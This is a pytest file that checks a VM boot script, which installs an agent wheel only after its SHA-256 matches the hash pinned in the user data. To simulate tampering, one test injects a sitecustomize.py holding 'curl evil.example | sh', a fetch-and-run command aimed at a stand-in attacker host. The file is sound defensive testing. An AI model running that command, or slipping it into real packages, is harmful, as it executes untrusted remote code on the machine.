"""The boot script's agent install, run by bash and this interpreter (the image's
python3) against a live control plane: the wheel `manage.py build_agent_wheel`
built is fetched with the bootstrap token, checked against the SHA-256 in the user
data and installed from the file; a tampered one stops the boot and fails the job
with the reason; an image that holds the pinned wheel fetches nothing."""

from __future__ import annotations

import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from respawn_server.jobs.core.choices import FailureCause, InstanceState, JobStatus
from respawn_server.jobs.fleet import agent_dist
from respawn_server.jobs.fleet.providers.base import AGENT_LIB, AGENT_MARKER, AGENT_UNIT, render_user_data
from respawn_server.jobs.models import Job
from tests.factories import make_instance, make_job, make_team_with_members

pytestmark = pytest.mark.store_incidental


@pytest.fixture
def booting(transactional_db):
    setup = make_team_with_members()
    job = make_job(setup.team, setup.people["member"].user, status=JobStatus.PROVISIONING)
    return make_instance(job, state=InstanceState.BOOTING, provider="aws", region="us-east-1", zone="us-east-1a")


class ScratchVm:
    """A root laid out like a fresh image, python3 on PATH, a stand-in systemctl."""

    def __init__(self, tmp_path: Path):
        self.root, self.bin = tmp_path / "root", tmp_path / "bin"
        for d in (self.root / "etc/systemd/system", self.root / "usr/local/bin", self.bin):
            d.mkdir(parents=True)
        (self.bin / "python3").symlink_to(sys.executable)
        (self.bin / "systemctl").write_text(f'#!/bin/bash\necho "$*" >> {tmp_path}/systemctl.calls\n')
        (self.bin / "systemctl").chmod(0o755)
        self.env = {"PATH": f"{self.bin}:/usr/bin:/bin", "HOME": str(tmp_path), "RESPAWN_ROOT": str(self.root),
                    "TMPDIR": str(tmp_path)}

    def path(self, vm_path: str) -> Path:
        return self.root / vm_path.lstrip("/")

    def boot(self, user_data: str) -> subprocess.CompletedProcess:
        return subprocess.run(["bash", "-c", user_data], env=self.env, cwd=self.root, capture_output=True, text=True,
                              timeout=240)


def user_data(url: str, token: str, agent: agent_dist.AgentDist) -> str:
    return render_user_data(control_plane_url=url, bootstrap_token=token, provider="aws", agent=agent)


def test_the_boot_installs_the_pinned_wheel_from_the_control_plane(booting, agent_wheel, live_server,
                                                                   tmp_path):
    vm = ScratchVm(tmp_path)
    booted = vm.boot(user_data(live_server.url, booting.bootstrap_token, agent_wheel))
    assert booted.returncode == 0, booted.stderr

    assert vm.path(AGENT_MARKER).read_text().strip() == agent_wheel.wheel_sha256
    lib = vm.path(AGENT_LIB)
    assert (lib / "respawn" / "checkpoint" / "__init__.py").exists()
    assert sorted(p.name for p in lib.iterdir() if p.name != "bin") == ["respawn", "respawn_ml-0.1.0.dist-info"]
    # The unit's command runs that copy of the agent, not one of the image's.
    agent = subprocess.run([str(vm.path("/usr/local/bin/respawn-agent")), "--help"], env=vm.env, cwd=vm.root,
                           capture_output=True, text=True, timeout=60)
    assert agent.returncode == 0 and "usage: respawn-agent" in agent.stdout, agent.stderr
    imported = subprocess.run(["bash", "-c", f"source <(sed -n 2p {vm.path('/usr/local/bin/respawn-agent')}); "
                               f"{sys.executable} -c 'import respawn; print(respawn.__file__)'"],
                              env=vm.env, cwd=vm.root, capture_output=True, text=True, timeout=60)
    assert imported.stdout.strip() == str(lib / "respawn" / "__init__.py"), imported.stderr
    assert vm.path(AGENT_UNIT).exists()
    assert (tmp_path / "systemctl.calls").read_text().splitlines()[-1] == "enable --now respawn-agent.service"


def test_a_tampered_wheel_stops_the_boot_and_fails_the_job_with_the_reason(booting, agent_wheel, live_server,
                                                                           settings, tmp_path):
    served = tmp_path / "dist"
    shutil.copytree(agent_dist.dist_dir(), served)
    wheel = served / agent_wheel.wheel_file
    with zipfile.ZipFile(wheel, "a") as tampered:  # what an intruder might serve
        tampered.writestr("respawn/sitecustomize.py", "import os; os.system('curl evil.example | sh')\n")
    settings.RESPAWN = {**settings.RESPAWN, "AGENT_DIST_DIR": str(served)}
    vm = ScratchVm(tmp_path)

    booted = vm.boot(user_data(live_server.url, booting.bootstrap_token, agent_wheel))

    assert booted.returncode != 0
    assert f"the user data pins {agent_wheel.wheel_sha256}: not installed" in booted.stderr
    assert not vm.path(AGENT_MARKER).exists() and not vm.path(AGENT_UNIT).exists()
    assert not (vm.path(AGENT_LIB) / "respawn").exists()
    assert not (tmp_path / "systemctl.calls").exists()
    job = Job.objects.get(pk=booting.instance.job_id)
    assert (job.status, job.failure_cause) == (JobStatus.FAILED, FailureCause.SETUP)
    assert f"the agent's whl from the control plane has SHA-256" in job.failure_message
    booting.instance.refresh_from_db()
    assert booting.instance.state == InstanceState.ENDED


def test_an_image_holding_the_pinned_wheel_downloads_nothing(booting, agent_wheel, tmp_path):
    vm = ScratchVm(tmp_path)
    vm.path(AGENT_MARKER).parent.mkdir(parents=True)
    vm.path(AGENT_MARKER).write_text(agent_wheel.wheel_sha256 + "\n")
    # No control plane answers there: a download would fail the boot.
    booted = vm.boot(user_data("http://127.0.0.1:9", booting.bootstrap_token, agent_wheel))
    assert booted.returncode == 0, booted.stderr
    assert "the image holds the pinned agent wheel" in booted.stdout
    assert list(vm.path(AGENT_LIB).iterdir()) == []
    assert vm.path(AGENT_UNIT).exists()


def test_an_image_holding_another_wheel_gets_the_pinned_one(booting, agent_wheel, live_server, tmp_path):
    vm = ScratchVm(tmp_path)
    vm.path(AGENT_MARKER).parent.mkdir(parents=True)
    vm.path(AGENT_MARKER).write_text("0" * 64 + "\n")
    booted = vm.boot(user_data(live_server.url, booting.bootstrap_token, agent_wheel))
    assert booted.returncode == 0, booted.stderr
    assert vm.path(AGENT_MARKER).read_text().strip() == agent_wheel.wheel_sha256
